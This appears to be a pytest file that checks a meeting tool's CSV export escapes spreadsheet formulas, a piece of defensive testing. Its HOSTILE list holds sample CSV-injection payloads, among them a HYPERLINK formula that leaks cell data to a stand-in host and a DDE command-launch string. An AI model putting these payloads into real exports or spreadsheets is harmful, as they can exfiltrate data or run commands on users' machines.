"""`--csv` outputs never hand a spreadsheet a formula: typed text that starts like one
(= + - @, a tab or a line break) comes out with a leading apostrophe, read back with
the `csv` module from a real `roundtable` process."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import pytest

from roundtable.store.store import Store
from tests.cli.test_between_meetings_cli import run
from tests.unit.between_data import SHIPPED, fill

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1;"Klick")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1;2)",
    "\t=1+1",
    "\r\n=1+1",
]


@pytest.fixture
def config() -> Path:
    return SHIPPED


@pytest.fixture
def db(tmp_path: Path) -> Path:
    path = tmp_path / "data" / "roundtable.db"
    with Store.open(path) as store:
        fill(store)
        meeting = store.meetings()[0]
        assert meeting.id is not None
        for text in HOSTILE:
            store.add_action(text, "sales-marketing", date(2026, 5, 4), meeting.id, 0)
            store.add_decision(meeting.id, 0, text)
    return path


def read_csv(text: str, delimiter: str) -> list[dict[str, str]]:
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]


@pytest.mark.parametrize(("language", "delimiter"), [("en", ","), ("de", ";")])
@pytest.mark.parametrize("command", ["actions", "decisions"])
def test_formulas_in_typed_text_come_out_as_text(
    tmp_path: Path, db: Path, config: Path, command: str, language: str, delimiter: str
) -> None:
    result = run(tmp_path, db, config, "--lang", language, command, "--csv")
    assert result.returncode == 0, result.stderr
    rows = read_csv(result.stdout, delimiter)
    texts = [row["text"] for row in rows]
    for typed in HOSTILE:
        # The store trims what is typed: a leading tab or line break does not get in.
        shown = typed.strip()
        assert "'" + shown in texts, (typed, texts)
    # Nothing a spreadsheet would run: every cell starts harmlessly or is a number.
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "@", "\t", "\r", "\n")), cell
            if cell.startswith("-"):
                float(cell.replace(",", "."))
    # Ordinary text is left as it was.
    if command == "actions":
        assert "Umsatzschätzung „Frühjahr“ abgleichen" in texts


def test_meetings_csv_keeps_numbers_as_numbers(tmp_path: Path, db: Path, config: Path) -> None:
    result = run(tmp_path, db, config, "--lang", "de", "meetings", "--csv")
    assert result.returncode == 0, result.stderr
    rows = read_csv(result.stdout, ";")
    assert rows[0]["minutes_used"] == "170,0"
